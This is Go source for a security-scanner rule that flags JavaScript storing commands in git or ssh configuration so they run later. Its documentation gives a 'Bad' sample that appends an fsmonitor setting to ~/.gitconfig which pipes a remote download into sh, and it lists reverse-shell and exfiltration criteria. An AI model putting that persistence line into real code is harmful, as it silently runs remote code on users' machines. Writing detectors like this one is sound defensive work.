package rules

import (
	"path"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/jsfacts"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/parse/shell"
)

// JSStoredCommand reports JavaScript that stores a command in git or ssh
// configuration for later (SV604 for JavaScript).
var JSStoredCommand = register(&analyzer.Rule{
	ID:       "SV605",
	Name:     "js-stored-command",
	Title:    "JavaScript stores a command in git or ssh configuration to run later (fsmonitor, hooksPath, credential helper, ProxyCommand)",
	Severity: High,
	Category: analyzer.CatPrivEsc,
	Tags:     []string{"security", "javascript", "persistence", "CWE-506", "CWE-15"},
	Inputs:   analyzer.InJS,
	Keywords: []string{"git", "ssh"},
	Doc: `JavaScript or TypeScript makes git or ssh run a command later: it writes git or ssh
configuration text (` + "`fs.writeFileSync`" + `/` + "`appendFileSync`" + ` of ` + "`~/.gitconfig`" + `, ` + "`.git/config`" + `,
` + "`~/.ssh/config`" + `) holding ` + "`core.fsmonitor`" + `, ` + "`core.hooksPath`" + `, a credential helper, a ` + "`!`" + ` alias, a filter,
` + "`ProxyCommand`" + `, ` + "`LocalCommand`" + ` or ` + "`Match exec`" + `, or it runs ` + "`git config`" + ` / ` + "`git -c`" + ` / ` + "`ssh -o`" + ` with such a
key through ` + "`child_process`" + ` (an argument list or a shell string).

The stored command is parsed as shell and graded as SV604 grades it: **critical** when it
downloads and runs code, opens a reverse shell, sends data or hands credentials, output or file
contents to the network, or contacts a raw IP, tunnel or paste site; **high** for downloads,
connections, inline code, programs and hooks directories in temporary or skill directories;
**medium** for unknown programs; nothing for ordinary pagers, editors, credential helpers, filters
and proxies. SV101 reports the process call itself.

**Fix:** print the setting for the user to apply instead of changing their configuration.

Bad:

` + "```js" + `
fs.appendFileSync(path.join(os.homedir(), '.gitconfig'),
  '[core]\n\tfsmonitor = "curl -s https://cdn.example.net/m | sh; false"\n');
` + "```" + `

Good:

` + "```js" + `
console.log('Optional: git config --global core.pager delta');
` + "```",
	Run: runJSStoredCommand,
})

// jsConfigWrites are the calls that write a file from (path, text).
var jsConfigWrites = map[string]bool{"module:fs.writeFileSync": true, "module:fs.appendFileSync": true, "module:fs.writeFile": true,
	"module:fs.appendFile": true, "module:fs-extra.outputFileSync": true, "module:fs-extra.outputFile": true,
	"module:fs-extra.writeFileSync": true, "module:fs-extra.appendFileSync": true, "Bun.write": true, "Deno.writeTextFileSync": true,
	"Deno.writeTextFile": true}

func runJSStoredCommand(p *analyzer.Pass) error {
	v := jsfacts.Of(p)
	if v == nil {
		return nil
	}
	for _, c := range v.Info.Calls() {
		callee, args := v.EffectiveCall(c)
		var script *shell.Script
		var settings []shell.Setting
		switch {
		case jsConfigWrites[callee] && len(args) >= 2:
			file, ok := v.PathStr(args[0])
			text, ok2 := v.Info.Str(args[1])
			if !ok || !ok2 {
				continue
			}
			settings = shell.ConfigSettings(file, text, shell.Anchored(0, 0))
		case jsfacts.ChildProcessCall(callee) != "" && len(args) > 0:
			prog, ok := v.Info.Str(args[0])
			if !ok {
				continue
			}
			fn := jsfacts.ChildProcessCall(callee)
			if fn == "exec" || fn == "execSync" || len(args) == 1 && strings.ContainsAny(prog, " \t") {
				script = shell.ParseAnchored(prog, 0, 0)
				for _, sc := range script.Commands {
					settings = append(settings, sc.Settings...)
				}
				break
			}
			words := []shell.Word{{Value: prog, Raw: prog, Const: true}}
			if len(args) > 1 {
				for _, w := range v.ArgWords(args[1]) {
					s := w.Value
					if src := v.Src(w.Expr); !w.Literal && (!w.OK || strings.HasPrefix(s, "*")) && (strings.Contains(src, "__dirname") || strings.Contains(src, "import.meta")) {
						s = "$SCRIPT_DIR/" + strings.TrimLeft(strings.TrimPrefix(s, "*"), "/") // the script's own directory
					}
					words = append(words, shell.Word{Value: s, Raw: s, Const: w.OK})
				}
			}
			switch strings.TrimSuffix(strings.ToLower(path.Base(prog)), ".exe") {
			case "git":
				settings = shell.GitSettings(words)
			case "ssh", "scp", "sftp":
				settings = shell.SSHSettings(words)
			}
		default:
			continue
		}
		for i := range settings {
			st := &settings[i]
			j := shellfacts.JudgeSetting(script, st, 0, 0)
			j, msg := shellfacts.Verdict(st, j)
			if j.Sev == analyzer.SevNone {
				continue
			}
			v.Report(c, j.Sev, msg)
		}
	}
	return nil
}
